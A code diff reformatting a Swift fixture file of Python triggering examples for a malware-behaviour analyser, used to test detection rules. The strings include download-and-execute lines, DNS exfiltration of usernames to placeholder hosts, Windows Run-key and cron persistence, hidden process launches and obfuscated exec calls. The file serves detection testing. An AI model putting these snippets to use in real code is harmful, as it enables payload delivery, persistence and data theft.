@@ -3,7 +3,8 @@ import LockgateCore
 /// Triggering examples for every behaviour the Python analyser reports; `↓` marks where it must be reported.
 enum PythonRuleExamples {
     static let highEntropy: String = {
-        let alphabet = Array((0x21...0x7E).compactMap(Unicode.Scalar.init).filter { !"'\"\\".unicodeScalars.contains($0) })
+        let alphabet = Array(
+            (0x21...0x7E).compactMap(Unicode.Scalar.init).filter { !"'\"\\".unicodeScalars.contains($0) })
         return String(String.UnicodeScalarView((0..<240).map { alphabet[($0 * 37 + $0 / 91) % alphabet.count] }))
     }()
 
@@ -15,7 +16,8 @@ enum PythonRuleExamples {
         PythonExample(.importFileSystemModule, "import ↓shutil\nfrom ↓pathlib import Path\nimport ↓glob"),
         PythonExample(.readFile, "data = ↓open('notes.txt').read()\nmore = ↓open('b.bin', 'rb')"),
         PythonExample(.readFile, "from pathlib import Path\ntext = ↓Path('a.txt').read_text()"),
-        PythonExample(.readFile, "import os\nfor name in ↓os.listdir('.'):\n    pass\nfor x in ↓os.walk('/'):\n    pass"),
+        PythonExample(
+            .readFile, "import os\nfor name in ↓os.listdir('.'):\n    pass\nfor x in ↓os.walk('/'):\n    pass"),
         PythonExample(.writeFile, "↓open('out.txt', 'w').write('x')\n↓open('log', mode='a')"),
         PythonExample(.writeFile, "import shutil\n↓shutil.copy('a', 'b')"),
         PythonExample(.writeFile, "from pathlib import Path\n↓Path('x').write_bytes(b'1')"),
@@ -51,13 +53,16 @@ enum PythonRuleExamples {
         PythonExample(.urlRawIP, "u = ↓'http://45.9.148.1:8080/p'"),
         PythonExample(.urlDynamicDNS, "u = ↓'http://evil.duckdns.org/x'"),
         PythonExample(.dnsLookup, "import socket\nip = ↓socket.gethostbyname('example.com')"),
-        PythonExample(.dnsExfiltration, "import socket, os\nu = os.getlogin()\n↓socket.gethostbyname(u + '.x.example.net')"),
-        PythonExample(.dnsExfiltration, "import socket, getpass\n↓socket.gethostbyname(f'{getpass.getuser()}.d.example')"),
+        PythonExample(
+            .dnsExfiltration, "import socket, os\nu = os.getlogin()\n↓socket.gethostbyname(u + '.x.example.net')"),
+        PythonExample(
+            .dnsExfiltration, "import socket, getpass\n↓socket.gethostbyname(f'{getpass.getuser()}.d.example')"),
         PythonExample(.dnsExfiltration, "import dns.resolver\n↓dns.resolver.resolve('%s.t.example' % data, 'A')"),
         // Encoding
         PythonExample(.importEncodingModule, "import ↓base64, ↓zlib\nfrom ↓codecs import decode"),
         PythonExample(.useEncoding, "import base64\nx = ↓base64.b64decode(s)\ny = ↓bytes.fromhex(h)"),
-        PythonExample(.useEncoding, "import codecs, zlib, marshal\na = ↓codecs.decode(s, 'rot13')\nb = ↓zlib.decompress(c)"),
+        PythonExample(
+            .useEncoding, "import codecs, zlib, marshal\na = ↓codecs.decode(s, 'rot13')\nb = ↓zlib.decompress(c)"),
         PythonExample(.base64String, "blob = ↓'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9w'"),
         PythonExample(.longString, "x = ↓'" + String(repeating: "a", count: 1_200) + "'"),
         PythonExample(.highEntropyBlob, "x = ↓'" + highEntropy + "'"),
@@ -71,19 +76,26 @@ enum PythonRuleExamples {
         PythonExample(.evalCode, "↓eval(x)\n↓exec(y)\nc = ↓compile(src, 'f', 'exec')"),
         // Refinements of execution
         PythonExample(.downloadExecute, "import requests\n↓exec(requests.get(u).text)"),
-        PythonExample(.downloadExecute, "import urllib.request\nr = urllib.request.urlopen(u)\ncode = r.read()\n↓eval(code)"),
-        PythonExample(.downloadExecute, """
+        PythonExample(
+            .downloadExecute, "import urllib.request\nr = urllib.request.urlopen(u)\ncode = r.read()\n↓eval(code)"),
+        PythonExample(
+            .downloadExecute,
+            """
             import urllib.request, os
             urllib.request.urlretrieve(u, '/tmp/payload.exe')
             ↓os.system('/tmp/payload.exe')
             """),
-        PythonExample(.downloadExecute, """
+        PythonExample(
+            .downloadExecute,
+            """
             import requests, subprocess
             with open('run.bin', 'wb') as f:
                 f.write(requests.get(u).content)
             ↓subprocess.Popen(['./run.bin'])
             """),
-        PythonExample(.writeExecute, """
+        PythonExample(
+            .writeExecute,
+            """
             import os, subprocess
             path = os.path.join(tmp, 'helper')
             with open(path, 'wb') as f:
@@ -91,22 +103,29 @@ enum PythonRuleExamples {
             os.chmod(path, 0o755)
             ↓subprocess.call([path])
             """),
-        PythonExample(.persistence, """
+        PythonExample(
+            .persistence,
+            """
             import winreg
             key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, 2)
             ↓winreg.SetValueEx(key, 'upd', 0, winreg.REG_SZ, exe)
             """),
         PythonExample(.persistence, "import os\nrc = os.path.expanduser(↓'~/.bashrc')"),
         PythonExample(.persistence, "↓open('/etc/cron.d/updater', 'w').write(line)"),
-        PythonExample(.hiddenProcess, "import subprocess\n↓subprocess.Popen(c, creationflags=subprocess.CREATE_NO_WINDOW)"),
+        PythonExample(
+            .hiddenProcess, "import subprocess\n↓subprocess.Popen(c, creationflags=subprocess.CREATE_NO_WINDOW)"),
         PythonExample(.hiddenProcess, "import subprocess\n↓subprocess.Popen(c, creationflags=0x08000000)"),
         PythonExample(.hiddenProcess, "import subprocess\n↓subprocess.Popen(c, start_new_session=True)"),
-        PythonExample(.hiddenProcess, "import subprocess\n↓subprocess.Popen(['pythonw', 'x.py'])\n↓subprocess.run('nohup ./a &', shell=True)"),
-        PythonExample(.hiddenProcess, "from subprocess import Popen, DETACHED_PROCESS\n↓Popen(c, creationflags=DETACHED_PROCESS)"),
+        PythonExample(
+            .hiddenProcess,
+            "import subprocess\n↓subprocess.Popen(['pythonw', 'x.py'])\n↓subprocess.run('nohup ./a &', shell=True)"),
+        PythonExample(
+            .hiddenProcess, "from subprocess import Popen, DETACHED_PROCESS\n↓Popen(c, creationflags=DETACHED_PROCESS)"),
         // Obfuscation
         PythonExample(.pythonProtector, "import marshal, zlib\n↓exec(marshal.loads(zlib.decompress(b'x')))"),
         PythonExample(.pythonProtector, "from ↓pytransform import pyarmor_runtime\npyarmor_runtime()"),
-        PythonExample(.pythonProtector, "from ↓pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'x')"),
+        PythonExample(
+            .pythonProtector, "from ↓pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'x')"),
         PythonExample(.escapedIdentifiers, "import os\ngetattr(os, ↓'\\x73\\x79stem')('id')"),
     ]
 }
